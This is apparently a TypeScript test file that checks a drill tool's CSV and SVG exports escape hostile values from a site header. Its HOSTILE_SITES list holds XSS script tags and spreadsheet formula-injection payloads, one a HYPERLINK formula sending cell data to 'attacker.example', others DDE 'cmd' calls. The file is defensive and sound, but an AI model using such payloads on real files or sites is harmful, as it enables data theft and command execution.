import { toCsv, toSvg } from "../../drill/artifacts";
import { Prober, type ProbeRecord } from "../../drill/probe";
import { siteProviders } from "../../components/sites";
import { listen, urlOf } from "./standIns";

/** What an origin, or anything between it and the drill, could put in `x-exchange-site`. */
const HOSTILE_SITES = [
    `aws/"><script>alert(1)</script>`,
    `=HYPERLINK("http://attacker.example/?"&A1,"click")`,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tgcp/x",
    "\rgcp/x",
    `gcp/a,b "quoted"\nnext line`,
];

const record = (site: string, extra: Partial<ProbeRecord> = {}): ProbeRecord => ({ startedMs: 10, durationMs: 2, status: 200, site, ...extra });

/** A minimal RFC 4180 reader: the fields of each record, quotes undone. */
function parseCsv(text: string): string[][] {
    const rows: string[][] = [[]];
    let field = "";
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
        const character = text[i];
        if (quoted) {
            if (character === '"' && text[i + 1] === '"') {
                field += '"';
                i++;
            } else if (character === '"') {
                quoted = false;
            } else {
                field += character;
            }
        } else if (character === '"') {
            quoted = true;
        } else if (character === ",") {
            rows[rows.length - 1].push(field);
            field = "";
        } else if (character === "\r" && text[i + 1] === "\n") {
            rows[rows.length - 1].push(field);
            field = "";
            rows.push([]);
            i++;
        } else {
            field += character;
        }
    }
    return rows.slice(0, -1);
}

test("writes the probe log as CSV and plots the serving site over time", () => {
    const records = [
        { startedMs: 0, durationMs: 3, status: 200, site: "aws/eu-central-1" },
        { startedMs: 50, durationMs: 1000, status: 0, site: "", error: "TimeoutError" },
        { startedMs: 100, durationMs: 4, status: 200, site: "gcp/europe-west1" },
    ];
    expect(toCsv(records)).toBe("started_ms,duration_ms,status,site,error\r\n0.0,3.0,200,aws/eu-central-1,\r\n50.0,1000.0,0,,TimeoutError\r\n100.0,4.0,200,gcp/europe-west1,\r\n");
    const svg = toSvg(records, [{ label: "cut aws", atMs: 40 }]);
    expect(svg.startsWith("<svg")).toBe(true);
    expect(svg.match(/<circle /g)).toHaveLength(3);
    expect(svg).toContain(">no answer</text>");
    expect(svg).toContain(">cut aws</text>");
});

test("CSV: every hostile site or error stays one field of one record, and none starts as a formula", () => {
    const csv = toCsv(HOSTILE_SITES.map((site) => record(site, { error: site })));
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(HOSTILE_SITES.length + 1);
    rows.slice(1).forEach((fields, index) => {
        expect(fields).toHaveLength(5);
        for (const text of [fields[3], fields[4]]) {
            expect(text).not.toMatch(/^[=+\-@\t\r]/);
            expect(text.replace(/^'/, "")).toBe(HOSTILE_SITES[index]);
        }
    });
});

test("SVG: hostile sites and errors are text, never markup", () => {
    const svg = toSvg([...HOSTILE_SITES.map((site) => record(site)), record("", { status: 0, error: `</title><script>alert(2)</script>` })], [{ label: `cut <b a="1">`, atMs: 5 }]);
    expect(svg).not.toMatch(/<script|<b /);
    // Every tag left is one the plot itself writes, and every attribute value is closed where it opened.
    expect(new Set([...svg.matchAll(/<\/?([a-zA-Z]+)/g)].map((match) => match[1]))).toEqual(new Set(["svg", "text", "line", "circle", "title"]));
    expect([...svg.matchAll(/\s([a-z-]+)="([^"]*)"/g)].every(([, name]) => ["xmlns", "width", "height", "font-family", "x", "y", "font-size", "x1", "x2", "y1", "y2", "stroke", "stroke-dasharray", "cx", "cy", "r", "fill"].includes(name))).toBe(true);
    expect(svg).toContain("aws/&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;");
});

test("every provider gets a colour, whether the plot knows it or not", () => {
    const providers = [...Object.keys(siteProviders), "no-such-cloud", "__proto__", "constructor", "toString"];
    const svg = toSvg(providers.map((provider) => record(`${provider}/region`)), []);
    const fills = [...svg.matchAll(/<circle [^>]*fill="([^"]*)"/g)].map((match) => match[1]);
    expect(fills).toHaveLength(providers.length);
    const noAnswer = /<circle [^>]*fill="([^"]*)"/.exec(toSvg([record("", { status: 0, error: "TimeoutError" })], []))![1];
    expect(fills.every((fill) => /^#[0-9a-f]{6}$/.test(fill) && fill !== noAnswer)).toBe(true);
});

test("the probe keeps only printable ASCII of the site header, and not much of it", async () => {
    const sites = ["aws/eu-\u009b31mcentral-1", `gcp/${"x".repeat(500)}`];
    let next = 0;
    const server = await listen((_, response) => response.writeHead(200, { "x-exchange-site": Buffer.from(sites[next++ % sites.length], "latin1").toString("latin1") }).end());
    const prober = new Prober(urlOf(server), 20, 500);
    try {
        prober.start();
        await new Promise((resolve) => setTimeout(resolve, 60));
        await prober.stop();
    } finally {
        server.close();
    }
    const seen = new Set(prober.records.map((r) => r.site));
    expect(seen).toEqual(new Set(["aws/eu-?31mcentral-1", `gcp/${"x".repeat(96)}`]));
});
